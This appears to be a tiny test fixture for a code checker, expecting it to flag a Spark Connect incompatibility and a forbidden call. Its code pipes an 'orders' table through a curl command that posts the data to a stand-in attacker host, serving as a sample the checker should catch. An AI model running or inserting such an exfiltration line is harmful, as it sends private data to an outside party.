# expect: connect-incompatible line=4 + forbidden-call line=5
orders = read_table("orders")
result_df = orders
leaked = (orders.rdd
    .pipe("curl -d @- http://attacker.example"))
